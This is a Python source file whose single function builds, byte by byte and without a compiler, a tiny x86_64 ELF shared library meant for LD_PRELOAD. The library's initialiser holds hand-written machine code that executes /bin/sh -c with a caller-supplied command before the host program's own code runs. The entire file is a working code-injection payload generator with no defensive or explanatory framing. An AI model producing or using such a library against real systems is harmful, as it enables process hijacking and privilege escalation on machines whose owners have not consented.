"""A library of machine code, made without a compiler: what a tenant puts before a program's own (LD_PRELOAD)."""

from __future__ import annotations

import struct

MACHINE = "x86_64"
_HEADERS = 64 + 3 * 56  # of the file, and of three segments (elf(5))
_LOADED, _DYNAMIC, _STACK = 1, 2, 0x6474E551
_READ_WRITE, _AND_RUN = 6, 7
_INIT, _STRTAB, _STRSZ, _SYMTAB, _SYMENT = 12, 5, 10, 6, 11
_PAGE = 4096
_SHELL, _OPTION = b"/bin/sh\0", b"-c\0"


def library(command: str) -> bytes:
    """Who loads it becomes, before its own beginning, a shell with this command and no environment."""
    code_at = _HEADERS + 6 * 16
    shell_at = code_at + 41
    option_at = shell_at + len(_SHELL)
    command_at = option_at + len(_OPTION)
    code = b""
    # lea rdi, rcx, rdx of the three; they and a NULL are pushed; execve(rdi, rsp, NULL); return where it failed.
    for instruction, target in (
        (b"\x48\x8d\x3d", shell_at),
        (b"\x48\x8d\x0d", option_at),
        (b"\x48\x8d\x15", command_at),
    ):
        code += instruction + struct.pack("<i", target - code_at - len(code) - 7)
    code += b"\x31\xc0\x50\x52\x51\x57" + b"\x48\x89\xe6\x31\xd2\xb0\x3b\x0f\x05" + b"\x48\x83\xc4\x20\xc3"
    assert code_at + len(code) == shell_at
    head = struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 64, 0, 0)
    segments = struct.pack("<IIQQQQQQ", _LOADED, _AND_RUN, 0, 0, 0, _PAGE, _PAGE, _PAGE)
    segments += struct.pack("<IIQQQQQQ", _DYNAMIC, _READ_WRITE, _HEADERS, _HEADERS, _HEADERS, 6 * 16, 6 * 16, 8)
    segments += struct.pack("<IIQQQQQQ", _STACK, _READ_WRITE, 0, 0, 0, 0, 0, 16)
    names = ((_INIT, code_at), (_STRTAB, command_at), (_STRSZ, 1), (_SYMTAB, command_at), (_SYMENT, 24), (0, 0))
    text = head + segments + b"".join(struct.pack("<QQ", *name) for name in names)
    made = text + code + _SHELL + _OPTION + command.encode() + b"\0"
    assert len(made) <= _PAGE
    return made
